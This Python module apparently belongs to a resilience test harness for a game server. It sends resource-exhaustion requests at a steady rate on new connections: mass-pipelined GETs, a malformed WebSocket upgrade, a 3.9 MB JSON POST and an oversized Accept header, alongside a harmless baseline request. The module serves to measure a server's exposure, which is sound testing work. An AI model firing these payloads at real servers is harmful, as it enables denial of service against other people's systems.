"""Requests that cost an older server far more than they cost their sender, sent at a steady rate on
new connections.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from typing import Any
from urllib.parse import urlsplit

PATIENCE_S = 5.0
MAX_PER_SECOND = 1000
MAX_WAITING = 500
_LARGE = b'{"board":{"hazards":[{"x":"' + b" " * 3_900_000 + b'","y":1}]}}'

PACKETS = {
    "plain": b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    "pipelined": b"GET / HTTP/1.1\r\n\r\n" * 13_000,
    "upgrades": (
        b"GET /games/x/events HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade:"
        b" websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key:"
        b" AAAAAAAAAAAAAAAAAAAAAA==\r\nHost: \xff\r\n\r\n"
    ),
    "refused": (
        b"POST /move HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
        % len(_LARGE)
        + _LARGE
    ),
    "heads": (
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nAccept: "
        + b"text/html;q=0.5," * 3750
        + b"\r\n\r\n"
    ),
}
"""What one connection sends, by the attack's name. The plain one is harmless: at the same rate it
shows what the rate costs.
"""


def attack_with_packets(url: str, attack: str, per_second: int, seconds: float) -> dict[str, Any]:
    """Send so many of an attack's packets per second, each on a connection of its own. Runs in a
    process of its own.

    Packets that would make more than `MAX_WAITING` of them wait for an answer are left out.
    """
    counts = {"sent": 0, "sent_mb": 0.0, "left out": 0}
    packet = PACKETS[attack]

    async def send_one() -> None:
        with contextlib.suppress(OSError, asyncio.TimeoutError):
            reader, writer = await asyncio.open_connection(
                urlsplit(url).hostname, urlsplit(url).port
            )
            try:
                writer.write(packet)
                await asyncio.wait_for(reader.read(), PATIENCE_S)
            finally:
                writer.close()

    async def send_all() -> None:
        began = time.monotonic()
        waiting = set[asyncio.Task[None]]()
        for number in range(int(seconds * per_second)):
            await asyncio.sleep(max(0.0, began + number / per_second - time.monotonic()))
            if time.monotonic() > began + seconds:
                break
            if len(waiting) >= MAX_WAITING:
                counts["left out"] += 1
                continue
            task = asyncio.create_task(send_one())
            waiting.add(task)
            task.add_done_callback(waiting.discard)
            counts["sent"] += 1
        await asyncio.gather(*waiting)

    asyncio.run(send_all())
    counts["sent_mb"] = round(counts["sent"] * len(packet) / 1e6, 1)
    return counts
